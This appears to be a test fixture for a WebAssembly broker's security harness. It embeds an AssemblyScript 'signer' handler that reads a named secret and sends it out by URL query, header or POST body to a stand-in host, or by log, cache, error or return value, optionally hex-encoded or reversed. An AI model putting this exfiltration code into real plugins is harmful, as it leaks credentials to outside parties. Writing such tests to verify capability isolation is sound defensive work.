import type { GrantInput } from '../../model/grant.ts';
import type { HandlerAttack } from '../attack.ts';
import { SECRET_NAME } from '../target/secret.ts';
import { httpGrant } from './courier.ts';
import { SECRET_GRANT } from './thief.ts';

/** Is handed the value of a secret, and hands it on as \`as\` and \`way\` say. */
const SOURCE = `
import { cachePut, fail, HttpRequest, Json, JsonWriter, log, readSecret } from "tasker-wasm-broker/assemblyscript";

function written(value: string, how: string): string {
  if (how == "reversed") return value.split("").reverse().join("");
  if (how != "hex") return value;
  let text = "";
  for (let i = 0; i < value.length; i++) text += value.charCodeAt(i).toString(16);
  return text;
}

@handler("signer")
function signer(input: Json): JsonWriter {
  const key = written(readSecret(input.get("name").asString()), input.get("as").asString());
  const way = input.get("way").asString();
  const url = input.get("url").asString();
  if (way == "url") new HttpRequest("GET", url + "?k=" + key).trySend();
  if (way == "header") new HttpRequest("GET", url).header("x-key", key).trySend();
  if (way == "body") new HttpRequest("POST", url).text("key " + key).trySend();
  if (way == "log") log("key " + key);
  if (way == "cache") cachePut("k", key, 1000);
  if (way == "fail") return fail<JsonWriter>("stolen", key);
  if (way == "return") return new JsonWriter().beginArray().string(key).endArray();
  return new JsonWriter().bool(true);
}`;

export const READ_GRANT: GrantInput = { capability: 'secret_read', names: [SECRET_NAME] };

export function signer(
  way: string,
  { as = 'raw', name = SECRET_NAME, url = 'http://other.test/ok', ...given }: SignerOptions = {},
): HandlerAttack {
  return {
    kind: 'handler',
    module: { assemblyscript: SOURCE },
    grants: [
      httpGrant(),
      SECRET_GRANT,
      READ_GRANT,
      { capability: 'log' },
      { capability: 'cache', ttl_ms: 1000 },
    ],
    step: { context: { way, as, name, url } },
    ...given,
  };
}

interface SignerOptions extends Partial<HandlerAttack> {
  readonly as?: 'raw' | 'hex' | 'reversed';
  readonly name?: string;
  readonly url?: string;
}
